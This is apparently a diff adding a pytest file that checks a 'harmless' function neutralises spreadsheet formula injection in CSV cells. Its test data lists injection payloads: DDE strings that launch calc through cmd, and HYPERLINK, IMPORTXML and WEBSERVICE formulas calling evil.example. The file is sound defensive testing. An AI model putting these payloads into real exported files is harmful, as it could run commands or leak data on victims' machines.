@@ -1,0 +1,60 @@
+"""Promise C8: forty beginnings that some spreadsheet computes, and what must stay as it is."""
+
+import csv
+from io import StringIO
+
+import pytest
+
+from palier.adapters.shared.cells import harmless
+
+SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠"]
+CALLS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example","x")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=IMPORTXML("https://evil.example","//a")',
+    '=WEBSERVICE("https://evil.example")',
+    '=DDE("cmd";"/C calc";"x")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "  @x",
+    "\u00a0=1",
+    "\u3000＝1",
+    "\ufeff=1",
+    '"=1+1"',
+    "'=1+1",
+    '" =1',
+    "=",
+    "%0A=1",
+    "|calc",
+    "＝1＋1",
+    "＠SUM",
+    "-",
+]
+PLAIN = ["", "ok", "été", "a=b", "1+1", "12.5", "PAL-1", "x@acme.example", "L’API", "(=1)", "2026-01-01", "«=»"]
+
+
+@pytest.mark.parametrize("cell", [*SIGNS, *CALLS])
+def test_nothing_is_computed_and_the_words_stay_readable(cell: str) -> None:
+    assert len({*SIGNS, *CALLS}) >= 38
+    written = harmless(cell)
+    assert (written[0], written[1:]) == ("'", cell)
+    assert harmless(f"{cell} ")[0] == "'"
+
+
+@pytest.mark.parametrize("cell", PLAIN)
+def test_what_computes_nothing_stays_as_it_is(cell: str) -> None:
+    assert harmless(cell) == cell
+
+
+def test_a_table_comes_back_as_it_was_written() -> None:
+    rows = [[harmless(each), "7"] for each in (*SIGNS, *CALLS, *PLAIN)]
+    kept = StringIO(newline="")
+    csv.writer(kept).writerows(rows)
+    assert list(csv.reader(StringIO(kept.getvalue(), newline=""))) == rows
